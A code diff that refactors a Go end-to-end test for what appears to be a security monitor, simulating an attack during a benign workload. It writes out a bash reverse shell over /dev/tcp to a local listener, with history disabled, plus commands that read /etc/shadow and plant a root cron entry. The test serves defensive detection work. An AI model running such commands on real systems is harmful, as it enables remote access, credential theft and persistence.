@@ -2,8 +2,6 @@ package e2e
 
 import (
 	"fmt"
-	"io"
-	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -55,23 +53,7 @@ func TestBenignDayAndAnAttackBesideIt(t *testing.T) {
 	}
 
 	// the attacker's end: a listener that types three commands
-	l, err := net.Listen("tcp4", "127.0.0.1:0")
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer l.Close()
-	served := make(chan error, 1)
-	go func() {
-		c, err := l.Accept()
-		if err != nil {
-			served <- err
-			return
-		}
-		defer c.Close()
-		_, err = io.WriteString(c, "cat /etc/shadow > /dev/null\necho '* * * * * root true' > "+cron+"\nexit\n")
-		io.Copy(io.Discard, c)
-		served <- err
-	}()
+	port, served := attacker(t, "cat /etc/shadow > /dev/null\necho '* * * * * root true' > "+cron+"\nexit\n")
 
 	m := startMonitor(t, "-i", "1")
 	day := exec.Command("bash", script, work, bin)
@@ -81,7 +63,7 @@ func TestBenignDayAndAnAttackBesideIt(t *testing.T) {
 		t.Fatal(err)
 	}
 	// the attack, while the day runs
-	attack := exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", l.Addr().(*net.TCPAddr).Port))
+	attack := exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
 	attack.Env = append(os.Environ(), "HISTFILE=/dev/null")
 	if b, err := attack.CombinedOutput(); err != nil {
 		t.Fatalf("the attack: %v: %s", err, b)
